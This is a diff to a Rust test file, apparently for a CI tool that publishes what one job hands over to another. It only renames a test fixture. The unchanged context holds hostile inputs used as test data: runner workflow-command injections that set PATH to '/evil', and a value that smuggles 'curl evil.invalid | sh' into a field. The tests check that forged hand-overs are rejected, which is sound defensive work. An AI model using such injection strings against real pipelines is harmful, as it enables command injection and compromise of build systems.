@@ -36,7 +36,7 @@ pub(super) fn publish(
 #[test]
 fn what_one_job_found_another_publishes_without_a_checkout() {
     let fake = Fake::start();
-    let (project, head, folder) = handed_over(&fake, "py-bounds-regressed", &[]);
+    let (project, head, folder) = handed_over(&fake, "tap-bounds-regressed", &[]);
     {
         let state = fake.state();
         let wrote = state.requests.iter().filter(|request| !request.starts_with("GET")).count();
@@ -64,7 +64,7 @@ fn what_one_job_found_another_publishes_without_a_checkout() {
 #[test]
 fn nothing_is_published_of_what_does_not_fit_together() {
     let fake = Fake::start();
-    let (project, head, folder) = handed_over(&fake, "py-bounds-regressed", &[]);
+    let (project, head, folder) = handed_over(&fake, "tap-bounds-regressed", &[]);
     let read = |name: &str| std::fs::read_to_string(folder.join(name)).unwrap();
     let (list, patch, receipt) = (read("handover.json"), read("heal.patch"), read("receipt.json"));
     // who controls the first job can write the list anew, too
@@ -112,7 +112,7 @@ fn nothing_is_published_of_what_does_not_fit_together() {
 #[test]
 fn what_is_said_of_a_forged_hand_over_is_no_command_for_the_runner() {
     let fake = Fake::start();
-    let (project, head, folder) = handed_over(&fake, "py-bounds-regressed", &[]);
+    let (project, head, folder) = handed_over(&fake, "tap-bounds-regressed", &[]);
     let list = std::fs::read_to_string(folder.join("handover.json")).unwrap();
     // texts that stand in what is said of them: a version, and a field that there is none of
     let loud = "x\n::add-mask::hello\r  ::stop-commands::x\n##[add-path]/evil\n\u{feff}::set-env name=PATH::/evil";
@@ -134,7 +134,7 @@ fn what_is_said_of_a_forged_hand_over_is_no_command_for_the_runner() {
 #[test]
 fn paths_in_a_hand_over_are_those_of_its_files_whatever_its_document_says() {
     let fake = Fake::start();
-    let (project, head, folder) = handed_over(&fake, "py-bounds-regressed", &[]);
+    let (project, head, folder) = handed_over(&fake, "tap-bounds-regressed", &[]);
     let read = |name: &str| std::fs::read_to_string(folder.join(name)).unwrap();
     let mut document: Value = serde_json::from_str(&read("document.json")).unwrap();
     let evil = "x\"; curl evil.invalid | sh #";
@@ -216,7 +216,7 @@ fn what_may_be_published_is_said_by_the_base_branch_and_not_by_the_pull_request(
 #[test]
 fn a_patch_that_a_forged_receipt_allows_is_still_held_back_where_a_person_has_to_decide() {
     let fake = Fake::start();
-    let (project, head, folder) = handed_over(&fake, "py-bounds-regressed", &[]);
+    let (project, head, folder) = handed_over(&fake, "tap-bounds-regressed", &[]);
     let (steers, decides) = ("steers git, CI or kaizen-ci", "decides how the tests run");
     for (path, mode, why) in [
         (".github/workflows/x.yml", "100644", steers),
